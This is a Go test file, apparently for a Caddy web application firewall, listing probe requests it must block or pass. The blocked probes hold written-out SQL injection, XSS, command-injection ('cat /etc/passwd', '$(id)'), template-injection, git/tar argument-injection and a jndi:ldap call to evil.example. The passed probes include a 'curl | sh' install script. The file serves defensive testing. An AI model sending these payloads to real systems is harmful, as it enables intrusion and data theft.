package waf

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"maps"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"github.com/corazawaf/libinjection-go"
	"go.uber.org/zap"
)

func basic(user, pass string) http.Header {
	return http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))}}
}

// multipartFile is a multipart/form-data body of one file part with the
// given Content-Disposition parameters after the field's name, and
// contents.
func multipartFile(field, disposition, contentType, contents string) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; %s`, field, disposition))
	h.Set("Content-Type", contentType)
	pw, _ := mw.CreatePart(h)
	_, _ = pw.Write([]byte(contents))
	_ = mw.WriteField("title", "my upload")
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

// multipartFileQP is multipartFile with the contents sent
// quoted-printable (Content-Transfer-Encoding, which Go's multipart
// reader decodes), every byte but letters and digits encoded (=27 for ').
func multipartFileQP(field, disposition, contents string) (string, string) {
	var enc strings.Builder
	for i := 0; i < len(contents); i++ {
		c := contents[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
			enc.WriteByte(c)
			continue
		}
		fmt.Fprintf(&enc, "=%02X", c)
	}
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; %s`, field, disposition))
	h.Set("Content-Type", "text/csv")
	h.Set("Content-Transfer-Encoding", "quoted-printable")
	pw, _ := mw.CreatePart(h)
	_, _ = pw.Write([]byte(enc.String()))
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

// placesAttackTable is what the WAF must refuse in the places the CRS at
// paranoia 1 does not read (docs/waf.md, "Places the CRS does not
// read"): crsCatches are refused by the CRS alone too (kept to show which
// places it does read), crsMisses pass it and are the additions' work.
func placesAttackTable() (crsCatches, crsMisses []probe) {
	sqli := "1' UNION SELECT username, password FROM users --"
	csv, csvType := multipartFile("report", `filename="report.csv"`, "text/csv", "id,name\n1,x' UNION SELECT username, password FROM users --\n")
	star, starType := multipartFile("doc", `filename*=UTF-8''notes%20%C3%A9t%C3%A9.txt`, "text/plain", "see ${jndi:ldap://evil.example/a} and 1' OR '1'='1' --")
	octet, octetType := multipartFile("data", `filename="data.bin"`, "application/octet-stream", "127.0.0.1; cat /etc/passwd")
	qp, qpType := multipartFileQP("notes", `filename="notes.txt"`, "see <script>alert(document.domain)</script>\n")
	crsCatches = []probe{
		// refused with crs_only too since attack 67: a part with a
		// Content-Transfer-Encoding is refused as ambiguous (200019)
		{name: "XSS in a text file part sent quoted-printable", method: "POST", path: "/upload", contentType: qpType, body: qp},
		{name: "XSS in X-Forwarded-Host", method: "GET", path: "/", header: http.Header{"X-Forwarded-Host": {`"><script>alert(document.domain)</script>`}}},
		{name: "XSS in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {`"><img src=x onerror=alert(document.domain)>`}}},
		{name: "jndi in a custom header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
	}
	crsMisses = []probe{
		{name: "SQLi in a Basic password", method: "GET", path: "/account", header: basic("admin", "' OR '1'='1' --")},
		{name: "SQLi in a Basic user name", method: "GET", path: "/account", header: basic("admin' --", "x")},
		{name: "XSS in a Basic user name", method: "GET", path: "/account", header: basic("<script>alert(1)</script>", "x")},
		// a fourth fresh-eyes attack: Basic credentials as lenient
		// backends (Express's basic-auth, DRF) take them, and '-'
		{name: "SQLi in a Basic password, base64 without padding", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + base64.RawStdEncoding.EncodeToString([]byte("admin:' OR '1'='1"))}}},
		{name: "SQLi in a Basic password, URL-safe base64", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + base64.URLEncoding.EncodeToString([]byte("admin:' OR '1'='1?"))}}},
		// a quote, an operator, a comment (a seventh fresh-eyes attack)
		{name: "SQLi in a Basic password: '-0#", method: "GET", path: "/account", header: basic("admin", "'-0#")},
		{name: "SQLi in a Basic password: '<=>'#", method: "GET", path: "/account", header: basic("admin", "'<=>'#")},
		{name: "SQLi in a Basic password: ' DIV 1#", method: "GET", path: "/account", header: basic("admin", "' DIV 1#")},
		{name: "SQLi in a Basic password after a tab", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic\t" + base64.StdEncoding.EncodeToString([]byte("admin:' OR 1=1 --"))}}},
		{name: "SQLi in a Basic password after several spaces", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic   " + base64.StdEncoding.EncodeToString([]byte("admin:' OR 1=1 --"))}}},
		{name: "Basic password '-' after a tab", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic\tYWRtaW46Jy0n"}}},
		{name: "Basic password '-'", method: "GET", path: "/account", header: basic("admin", "'-'")},
		{name: "Basic password '='", method: "GET", path: "/account", header: basic("admin", "'='")},
		{name: "SQLi in a Basic user name, URL-safe base64 without padding", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + base64.RawURLEncoding.EncodeToString([]byte("admin>' OR 1=1 --:x"))}}},
		{name: "SQLi in X-User-Id", method: "GET", path: "/api/me", header: http.Header{"X-User-Id": {sqli}}},
		{name: "numeric SQLi in X-User-Id", method: "GET", path: "/api/me", header: http.Header{"X-User-Id": {"1 OR 1=1"}}},
		// a Forwarded parameter's quoted value (attack 35)
		{name: "admin' -- in Forwarded's for=", method: "GET", path: "/api/me", header: http.Header{"Forwarded": {`for="admin' --"`}}},
		{name: "1 OR 1=1 in Forwarded's second element", method: "GET", path: "/api/me", header: http.Header{"Forwarded": {`for=192.0.2.60;proto=http, for="1 OR 1=1"`}}},
		{name: "time-based SQLi in X-Forwarded-For", method: "GET", path: "/", header: http.Header{"X-Forwarded-For": {"127.0.0.1' AND SLEEP(5) --"}}},
		{name: "SQLi in X-Tenant", method: "GET", path: "/", header: http.Header{"X-Tenant": {"acme'; DROP TABLE users; --"}}},
		{name: "RCE in a custom header", method: "GET", path: "/", header: http.Header{"X-Ping-Host": {"127.0.0.1; cat /etc/passwd"}}},
		{name: "template in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {"{{7*7}}"}}},
		{name: "SQLi in a Digest user name", method: "GET", path: "/", header: http.Header{"Authorization": {`Digest username="admin' OR '1'='1' --", realm="x", nonce="abc", uri="/", response="0123"`}}},
		{name: "SQLi in a path segment", method: "GET", path: "/api/users/1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"},
		{name: "numeric SQLi in a path segment", method: "GET", path: "/api/users/1%20OR%201=1"},
		{name: "numeric SQLi with 0xA0 for spaces in a path segment (MySQL reads it as white space)", method: "GET", path: "/api/users/1%A0OR%A01=1"},
		{name: "numeric SQLi with no-break spaces in X-User-Id", method: "GET", path: "/api/me", header: http.Header{"X-User-Id": {"1\u00a0OR\u00a01=1"}}},
		{name: "SQLi in a path ;parameter", method: "GET", path: "/api/users;id=1%27%20OR%20%271%27=%271/profile"},
		// a fourth fresh-eyes attack: '+' as a space in a path segment,
		// as a backend that decodes it as a form value reads it
		{name: "SQLi with '+' for spaces in a path segment", method: "GET", path: "/api/users/0+UNION+SELECT+password+FROM+users"},
		{name: "numeric SQLi with '+' for spaces in a path segment", method: "GET", path: "/api/users/1+OR+1=1"},
		{name: "numeric SQLi with '+' for spaces in an escaped path segment", method: "GET", path: "/api/users/%31+OR+1=1"},
		{name: "SQLi with '+' for spaces in a path ;parameter", method: "GET", path: "/api/users;id=0+UNION+SELECT+password+FROM+users/profile"},
		// a fourth fresh-eyes attack: X-Original-URL and X-Rewrite-URL,
		// by which Symfony, Laminas, Drupal 7 and IIS route, read as a
		// path and a query, not as one value
		{name: "SQLi with '+' for spaces in X-Original-URL's path", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/api/users/0+UNION+SELECT+password+FROM+users"}}},
		{name: "numeric SQLi with '+' for spaces in X-Original-URL's path", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/api/users/1+OR+1=1?x=1"}}},
		{name: "admin'# in X-Original-URL's query", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/login?user=admin'%23"}}},
		{name: "numeric SQLi in X-Rewrite-URL's query", method: "GET", path: "/", header: http.Header{"X-Rewrite-Url": {"/api/users?id=1%20OR%201=1"}}},
		{name: "admin'-- in X-Rewrite-URL's query", method: "GET", path: "/", header: http.Header{"X-Rewrite-Url": {"/login?next=%2F&user=admin%27--+-"}}},
		{name: "SQLi with comments for spaces in X-Original-URL's path (read whole too)", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/api/users/1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--"}}},
		{name: "SQLi in a path segment with encoded slashes", method: "GET", path: "/api/users/1%27%2F**%2FUNION%2F**%2FSELECT%2F**%2Fpassword%2F**%2FFROM%2F**%2Fusers--"},
		{name: "RCE in a path segment", method: "GET", path: "/api/ping/127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
		// a third fresh-eyes attack's BROKE 13: the path is a common
		// template and command sink (Flask's /hello/<name>)
		{name: "SSTI {{7*7}} in a path segment", method: "GET", path: "/hello/%7B%7B7*7%7D%7D"},
		{name: "SSTI __mro__ in a path segment", method: "GET", path: "/user/%7B%7B%27%27.__class__.__mro__%7D%7D"},
		{name: "RCE ;cat in a path segment", method: "GET", path: "/x/;cat%20/etc/passwd"},
		{name: "RCE `id` in a path segment", method: "GET", path: "/x/%60id%60"},
		{name: "RCE $(id) in a path segment", method: "GET", path: "/x/$(id)"},
		{name: "LDAP admin)(&) in a path segment", method: "GET", path: "/x/admin)(%26)"},
		{name: "LDAP *)(uid=*))(|(uid=* in a path segment", method: "GET", path: "/x/*)(uid=*))(%7C(uid=*"},
		{name: "SSTI <%= 7*7 %> in a path segment", method: "GET", path: "/x/%3C%25=%207*7%20%25%3E"},
		{name: "php://filter over path segments", method: "GET", path: "/x/php://filter/resource=index.php"},
		{name: "PHP object in a path segment", method: "GET", path: "/x/O:8:%22stdClass%22:0:%7B%7D"},
		{name: "SQLi in a text file part (CSV)", method: "POST", path: "/upload", contentType: csvType, body: csv},
		{name: "attacks in a part named with filename*= only", method: "POST", path: "/upload", contentType: starType, body: star},
		{name: "RCE in a text file part declared octet-stream", method: "POST", path: "/upload", contentType: octetType, body: octet},
	}
	// a fifth fresh-eyes attack: Basic with stray characters, as
	// Werkzeug decodes it (F6); UNION across path segments (F9)
	b64File, b64Type := multipartFile("f", `filename="f.txt"`, "text/plain", base64.StdEncoding.EncodeToString([]byte("1' UNION SELECT password FROM users--"))+"\n")
	bsqli := base64.StdEncoding.EncodeToString([]byte("admin:' OR '1'='1' -- "))
	starRCE, starRCEType := multipartFile("host", `filename*=UTF-8''a.txt`, "text/plain", "127.0.0.1; id")
	spacedRCE, spacedRCEType := multipartFile("host", "filename =h.txt", "text/plain", "127.0.0.1; id")
	spacedRCE2, spacedRCE2Type := multipartFile("host", "filename= h.txt", "text/plain", "127.0.0.1 & whoami")
	// an RFC 2231 continuation only: a field to the engine too
	starRCE2, starRCE2Type := multipartFile("host", `filename*0*=UTF-8''a; filename*1=.txt`, "application/octet-stream", "8.8.8.8|id")
	crsCatches = append(crsCatches, probe{name: "ssh's -oProxyCommand in a matrix parameter", method: "GET", path: "/api/hosts/web1;opts=-oProxyCommand=/tmp/x.sh"})
	crsCatches = append(crsCatches, probe{name: "RCE in a part named with filename*0*= only", method: "POST", path: "/upload", contentType: starRCE2Type, body: starRCE2})
	crsMisses = append(crsMisses,
		probe{name: "SQLi in a Basic password with a space inside", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + bsqli[:8] + " " + bsqli[8:]}}},
		probe{name: "SQLi in a Basic password with a '!' after", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + bsqli + "!"}}},
		probe{name: "SQLi in a Basic password with a '.' inside", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + bsqli[:4] + "." + bsqli[4:]}}},
		// a Basic user name without a colon, which Werkzeug takes whole (a
		// sixth fresh-eyes attack's B11)
		probe{name: "SQLi in a Basic user name without a colon", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("admin' or '1'='1' -- "))}}},
		// and with a byte that is not UTF-8, which Django REST framework
		// reads as latin-1 (a seventh fresh-eyes attack's BROKE 11)
		probe{name: "SQLi in a Basic user name without a colon, with a byte 0xff", method: "GET", path: "/account", header: http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("admin' or '1'='1' -- \xff"))}}},
		// a part named with filename*= only is a field to Bun, multer and
		// PHP: the command rules read it (a sixth fresh-eyes attack's B8)
		probe{name: "RCE in a part named with filename*= only", method: "POST", path: "/upload", contentType: starRCEType, body: starRCE},
		// white space around filename's '=': a field to Werkzeug (a
		// seventh fresh-eyes attack's BROKE 9)
		probe{name: "RCE in a part with filename =h.txt", method: "POST", path: "/upload", contentType: spacedRCEType, body: spacedRCE},
		probe{name: "RCE in a part with filename= h.txt", method: "POST", path: "/upload", contentType: spacedRCE2Type, body: spacedRCE2},

		probe{name: "UNION across path segments", method: "GET", path: "/api/files/1/**/UNION/**/SELECT/**/password/**/FROM/**/users"},
		// JSON in a header or a path segment, base64 in a file, and
		// X-Original-URL's parameters decoded as the query's (F15, F17)
		probe{name: "SQLi in JSON in a header", method: "GET", path: "/", header: http.Header{"X-Filter": {`{"id":"1 or 1=1"}`}}},
		probe{name: "SQLi in JSON in a path segment", method: "GET", path: "/api/search/%7B%22id%22%3A%221%20or%201%3D1%22%7D"},
		probe{name: "SQLi in base64 in X-Original-URL's query", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/api/users?q=MScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLQ=="}}},
		probe{name: "SQLi in JSON in X-Original-URL's query", method: "GET", path: "/", header: http.Header{"X-Original-Url": {"/api/users?filter=%7B%22id%22%3A%221%20or%201%3D1%22%7D"}}},
		// an option in a path segment or a header (a sixth fresh-eyes
		// attack's B19): plainly safe characters, never inspected before
		probe{name: "git's --upload-pack in a path segment", method: "GET", path: "/api/repos/--upload-pack=id/refs"},
		probe{name: "tar's --checkpoint-action in a path segment", method: "GET", path: "/api/backup/--checkpoint-action=exec=id"},
		probe{name: "git's --upload-pack in a matrix parameter", method: "GET", path: "/api/repos;x=--upload-pack=id/refs"},
		probe{name: "tar's --use-compress-program in a matrix parameter", method: "GET", path: "/api/backup;args=--use-compress-program=id"},
		probe{name: "git's --upload-pack in a header", method: "GET", path: "/", header: http.Header{"X-Repo": {"--upload-pack=/tmp/uploads/x.sh"}}},
		// other proxies' original-URI headers (a sixth fresh-eyes attack's B16)
		probe{name: "SQLi in base64 in X-Original-URI's query", method: "GET", path: "/", header: http.Header{"X-Original-Uri": {"/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in base64 in X-Forwarded-Uri's query", method: "GET", path: "/", header: http.Header{"X-Forwarded-Uri": {"/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in base64 in X-Envoy-Original-Path's query", method: "GET", path: "/", header: http.Header{"X-Envoy-Original-Path": {"/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in JSON in X-Forwarded-Uri's query", method: "GET", path: "/", header: http.Header{"X-Forwarded-Uri": {"/api/users?filter=%7B%22id%22%3A%221%20or%201%3D1%22%7D"}}},
		// and more of them (a seventh fresh-eyes attack, attack 11)
		probe{name: "SQLi in base64 in X-Forwarded-Path's query", method: "GET", path: "/", header: http.Header{"X-Forwarded-Path": {"/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in JSON in X-Original-Path's query", method: "GET", path: "/", header: http.Header{"X-Original-Path": {"/api/users?filter=%7B%22id%22%3A%221%20or%201%3D1%22%7D"}}},
		probe{name: "SQLi in base64 in X-Request-URI's query", method: "GET", path: "/", header: http.Header{"X-Request-Uri": {"/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in base64 in X-Forwarded-Url's query", method: "GET", path: "/", header: http.Header{"X-Forwarded-Url": {"https://shop.example.com/api/users?id=MScgb3IgJzEnPScxJyAtLSA="}}},
		probe{name: "SQLi in a base64 text file", method: "POST", path: "/upload", contentType: b64Type, body: b64File},
	)
	return crsCatches, crsMisses
}

// placesBenignTable is ordinary traffic in those places that must pass.
func placesBenignTable() []probe {
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\xdac\xfc\xff\x9f\xa1\x1e\x00\x07\x82\x02\x7f=\xc8H\xef\x00\x00\x00\x00IEND\xaeB`\x82' OR 1=1 --"
	pngBody, pngType := multipartFile("avatar", `filename="me.png"`, "image/png", png)
	txt, txtType := multipartFile("notes", `filename="notes.txt"`, "text/plain", "Meeting notes: O'Brien and McDonald's (Zürich office), 50% done.\nNext: review the \"Q3\" plan; budget $5,000.\n")
	csv, csvType := multipartFile("contacts", `filename="contacts.csv"`, "text/csv", "name,email,city\n\"O'Neil, Jane\",jane@example.com,Köln\nBob,bob@example.com,\"St. Mary's\"\n")
	logFile, logType := multipartFile("log", `filename="app.log"; filename*=UTF-8''app.log`, "text/plain", "2026-12-03 WARN retry; sleep 5s\nRun `ls` then `cat` the file; id 7")
	starNotes, starNotesType := multipartFile("notes", `filename*=UTF-8''notes.txt`, "text/plain", "Gross & net share price; it's fine, O'Brien's notes -- 5 of them")
	spacedNotes, spacedNotesType := multipartFile("notes", "filename = notes.txt", "text/plain", "Gross & net share price; it's fine, O'Brien's notes -- 5 of them")
	spacedLog, spacedLogType := multipartFile("log", "filename =app.log; filename=\"app.log\"", "text/plain", "2026-12-03 WARN retry; sleep 5s\nRun `ls` then `cat` the file; id 7")
	jsonFile, jsonType := multipartFile("config", `filename*=UTF-8''r%C3%A9glages.json`, "application/json", `{"theme": "dark", "langs": ["de", "fr"], "note": "it's fine"}`)
	svg, svgType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`)
	html, htmlType := multipartFile("page", `filename="index.html"`, "text/html", `<!DOCTYPE html><html><body><h1>O'Brien's page</h1><script src="app.js"></script><a href="https://example.com/?a=1&b=2">x</a></body></html>`)
	script, scriptType := multipartFile("deploy", `filename="deploy.sh"`, "application/x-sh", "#!/bin/sh\nset -e\ncurl -fsSL https://example.com/install.sh | sh\necho done; id\n")
	h := func(kv ...string) http.Header {
		hh := http.Header{}
		for i := 0; i+1 < len(kv); i += 2 {
			hh.Add(kv[i], kv[i+1])
		}
		return hh
	}
	passwords := []string{`Tr0ub4dor&3`, `p@ss'w"rd!#42`, `x7$Kq!9z'Lm"2&vB(`, `correct horse battery staple`, `;Q]r8*Uv{2#pZ~e<`, `O'Brien-1970!`, `8f#K"d'2)(Lq^%wX`, `Pa$$w0rd'); --x`[:11]}
	out := []probe{
		{name: "Forwarded headers of proxies (RFC 7239's examples)", method: "GET", path: "/api/items", header: h(
			"Forwarded", `for="_gazonk"`, "X-Test", "1")},
		{name: "Forwarded with an IPv6 address and elements", method: "GET", path: "/api/items", header: h(
			"Forwarded", `For="[2001:db8:cafe::17]:4711", for=192.0.2.60;proto=http;by=203.0.113.43`)},
		{name: "Forwarded of HAProxy (a quoted IPv6 address: attack 38's false positive)", method: "GET", path: "/api/items", header: h(
			"Forwarded", `for="[2001:db8:cafe::17]";proto=https;host="api.example.com"`)},
		{name: "tracing headers (traceparent, tracestate, b3, X-Request-Id, X-Amzn-Trace-Id, X-Cloud-Trace-Context)", method: "GET", path: "/api/items", header: h(
			"Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
			"Tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE",
			"B3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1-05e3ac9a4f6e3b90",
			"X-B3-Traceid", "80f198ee56343ba864fe8b2a57d3eff7",
			"X-Request-Id", "f058ebd6-02f7-4d3f-942e-904344e8cde5",
			"X-Amzn-Trace-Id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1",
			"X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1")},
		{name: "proxy headers (X-Forwarded-*, Forwarded, X-Real-Ip, Via)", method: "GET", path: "/", header: h(
			"X-Forwarded-For", "203.0.113.195, 70.41.3.18, 2001:db8:85a3::8a2e:370:7334",
			"X-Forwarded-Proto", "https", "X-Forwarded-Host", "shop.example.com:8443", "X-Forwarded-Prefix", "/api",
			"Forwarded", `for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"`,
			"X-Real-Ip", "203.0.113.195", "Via", "1.1 vegur, 2 google")},
		{name: "infrastructure headers (baggage, sentry-trace, Envoy's XFCC, Cloudflare's, Datadog's, gRPC)", method: "GET", path: "/api/items", header: h(
			"Baggage", "sentry-environment=production,sentry-release=app%401.4.2,sentry-public_key=49d0f7386ad645858ae85020e393bef3,sentry-trace_id=771a43a4192642f0b136d5159a501700,userId=alice;prop=1",
			"Sentry-Trace", "771a43a4192642f0b136d5159a501700-b7ad6b7169203331-1",
			"X-Forwarded-Client-Cert", `By=spiffe://cluster.local/ns/foo/sa/bar;Hash=468ed33be74eee6556d90c0149c1309e9ba61d6425303443c0748a02dd8de688;Subject="CN=client,OU=eng,O=Example Inc.";URI=spiffe://cluster.local/ns/baz/sa/qux`,
			"X-Envoy-Expected-Rq-Timeout-Ms", "15000", "X-Envoy-Attempt-Count", "1",
			"Cf-Connecting-Ip", "203.0.113.7", "Cf-Ipcountry", "CH", "Cf-Ray", "8c2f1b2d3e4f5a6b-ZRH", "Cf-Visitor", `{"scheme":"https"}`,
			"X-Datadog-Tags", "_dd.p.dm=-1,_dd.p.tid=66a0b0c000000000", "Grpc-Timeout", "10S",
			"X-Ms-Client-Principal-Name", "jane.doe@example.com", "X-Device", "iPhone 15 Pro (iOS 17.5)")},
		{name: "a browser's headers (client hints, fetch metadata, conditional)", method: "GET", path: "/app", header: h(
			"Sec-Ch-Ua", `"Chromium";v="118", "Google Chrome";v="118", "Not=A?Brand";v="99"`,
			"Sec-Ch-Ua-Mobile", "?0", "Sec-Ch-Ua-Platform", `"Linux"`, "Sec-Fetch-Site", "same-origin",
			"Accept-Encoding", "gzip, deflate, br, zstd", "Accept-Language", "de-CH,de;q=0.9,en;q=0.8",
			"If-None-Match", `W/"0815-abc", "xyz"`, "If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT",
			"Origin", "https://app.example.com", "X-Requested-With", "XMLHttpRequest")},
		{name: "an app's user agent in a custom header, and a date", method: "GET", path: "/api/feed", header: h(
			"X-Client", "MyApp/2.3.1 (iPhone; iOS 17.2; Scale/3.00) Alamofire/5.8 (it's ours)",
			"X-Date", "Wed, 21 Oct 2015 07:28:00 GMT", "X-Timezone", "Europe/Zürich", "X-Locale", "fr_CH")},
		{name: "tokens in headers (JWT, base64, an API key, a CSRF token, a signature)", method: "GET", path: "/api/items", header: h(
			"X-Auth-Token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl",
			"X-Api-Key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "X-Csrf-Token", "k2Hs+9/aQ==",
			"X-Hub-Signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17",
			"X-Signature", base64.StdEncoding.EncodeToString([]byte("\x01\x02binary signature bytes\xff\xfe")))},
		{name: "a bearer token and an API key scheme", method: "GET", path: "/api", header: h("Authorization", benchToken)},
		{name: "AWS SigV4 Authorization", method: "GET", path: "/bucket/key", header: h(
			"Authorization", "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
			"X-Amz-Date", "20130524T000000Z", "X-Amz-Content-Sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")},
		{name: "Digest Authorization", method: "GET", path: "/dir/index.html", header: h(
			"Authorization", `Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", algorithm=SHA-256, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", nc=00000001, cnonce="f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ", qop=auth, response="753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"`)},
		{name: "a slug with an apostrophe", method: "GET", path: "/blog/o'brien-s-guide-to-dublin"},
		{name: "slugs percent-encoded (non-ASCII, an apostrophe, spaces)", method: "GET", path: "/wiki/Z%C3%BCrich/l%27%C3%A9tranger/rock%20%27n%27%20roll"},
		{name: "matrix parameters with a descending sort and a negative number", method: "GET", path: "/api/items;sort=-updated;page=2;offset=-5/x;fields=-id"},
		{name: "a ;jsessionid path parameter and an email in the path", method: "GET", path: "/shop;jsessionid=1A530637289A03B07199A44E8D531427/users/jane.doe+x@example.com/orders"},
		{name: "a URL in a path (a proxy or archive route)", method: "GET", path: "/web/20240101000000/https://example.com/page/about-us"},
		{name: "'+' in path segments (C++, a tag list, an email, a sum, a phone number)", method: "GET", path: "/books/c++-primer/tags/rock+roll/users/jane.doe+x@example.com/sum/1+1=2/call/+41+44+668+18+00"},
		{name: "'+' for spaces in a slug with an apostrophe", method: "GET", path: "/wiki/O'Brien+and+Sons/it's+fine"},
		{name: "X-Original-URL and X-Rewrite-URL of ordinary requests", method: "GET", path: "/", header: h(
			"X-Original-Url", "/admin/users?page=2&sort=name&q=O'Brien+%26+Sons",
			"X-Rewrite-Url", "/search?q=rock+%27n%27+roll&tags=a,b&email=jane.doe%2Bx%40example.com")},
		{name: "X-Original-URI, X-Forwarded-Uri, X-Envoy-Original-Path and X-Forwarded-Prefix of ordinary requests", method: "GET", path: "/", header: h(
			"X-Original-Uri", "/admin/users?page=2&sort=name&q=O'Brien+%26+Sons&token=dGhpcyBpcyBmaW5l",
			"X-Forwarded-Uri", "/search?q=rock+%27n%27+roll&tags=a,b&email=jane.doe%2Bx%40example.com",
			"X-Envoy-Original-Path", "/api/v1/orders/7?expand=items",
			"X-Forwarded-Prefix", "/shop")},
		{name: "X-Forwarded-Path, X-Original-Path, X-Request-URI and X-Forwarded-Url of ordinary requests", method: "GET", path: "/", header: h(
			"X-Forwarded-Path", "/api/v1/orders/7?expand=items&q=O'Brien+%26+Sons",
			"X-Original-Path", "/search?q=rock+%27n%27+roll&tags=a,b",
			"X-Request-Uri", "/admin/users?page=2&sort=-name&token=dGhpcyBpcyBmaW5l",
			"X-Forwarded-Url", "https://shop.example.com/wiki/Z%C3%BCrich?lang=de&email=jane.doe%2Bx%40example.com")},
		{name: "X-Original-URL with non-ASCII, a ;jsessionid and an apostrophe", method: "GET", path: "/", header: h(
			"X-Original-Url", "/shop;jsessionid=1A53/users/jane.doe+x@example.com/wiki/Z%C3%BCrich?lang=de&ref=it's+fine&sort=-date")},
		{name: "a path with parentheses, a colon and a comma", method: "GET", path: "/wiki/Mercury_(planet)/v1/projects/p1/locations/eu:batchGet,all"},
		{name: "a text file upload (notes with quotes, apostrophes, non-ASCII)", method: "POST", path: "/upload", contentType: txtType, body: txt},
		{name: "a CSV upload", method: "POST", path: "/upload", contentType: csvType, body: csv},
		{name: "a JSON file named with filename*=", method: "POST", path: "/upload", contentType: jsonType, body: jsonFile},
		{name: "a log file named with filename= and filename*= (a file: its text is not a command line)", method: "POST", path: "/upload", contentType: logType, body: logFile},
		{name: "notes named with filename*= only (a field to some backends)", method: "POST", path: "/upload", contentType: starNotesType, body: starNotes},
		{name: "notes named with filename = (a field to Werkzeug)", method: "POST", path: "/upload", contentType: spacedNotesType, body: spacedNotes},
		{name: "a log with filename = and filename= (a file)", method: "POST", path: "/upload", contentType: spacedLogType, body: spacedLog},
		{name: "an SVG icon upload (markup: only its DOCTYPE is read)", method: "POST", path: "/upload", contentType: svgType, body: svg},
		{name: "an HTML page upload", method: "POST", path: "/upload", contentType: htmlType, body: html},
		{name: "a shell script upload", method: "POST", path: "/upload", contentType: scriptType, body: script},
		{name: "a PNG upload (binary; an attack's text after its end is not read)", method: "POST", path: "/upload", contentType: pngType, body: pngBody},
	}
	for _, p := range passwords {
		out = append(out, probe{name: "Basic with a strong password " + p, method: "GET", path: "/account", header: basic("jane.o'neil@example.com", p)})
	}
	// a user name alone, without a colon (B11's near misses)
	for _, u := range []string{"jane.o'neil@example.com", "O'Brien", "Jürgen Müller", "api-key-7f3a9c"} {
		out = append(out, probe{name: "Basic with a user name and no colon " + u, method: "GET", path: "/account", header: h("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(u)))})
	}
	// the lenient forms of Basic (no padding, URL-safe, a tab) with
